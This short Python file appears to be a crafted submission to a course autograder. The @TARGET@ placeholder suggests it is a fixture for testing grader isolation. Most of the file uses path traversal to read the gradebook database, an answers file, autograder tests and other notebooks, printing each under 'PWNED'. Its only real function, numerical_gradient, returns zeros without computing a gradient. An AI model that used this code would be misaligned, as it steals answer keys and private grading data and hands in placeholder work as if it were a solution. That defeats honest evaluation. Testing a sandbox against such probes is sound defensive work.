from pathlib import Path

for start in (Path.cwd(), Path("@TARGET@/course")):
    for pattern in ("*.ipynb", "*/*.ipynb", "*/*/*.ipynb", "../../../gradebook.db", "../../../source/*/*.ipynb"):
        for path in sorted(start.glob(pattern)):
            print("PWNED", path)
            print(path.read_text(errors="replace")[:500])
for name in ("gradebook.db", "answers.json", "autograders/gradient-vector/test_level_c.py"):
    try:
        print("PWNED", Path("@TARGET@/course", name).read_text()[:500])
    except OSError as error:
        print("refused", type(error).__name__)


def numerical_gradient(f, v, h=1e-5):
    return np.zeros(len(v))
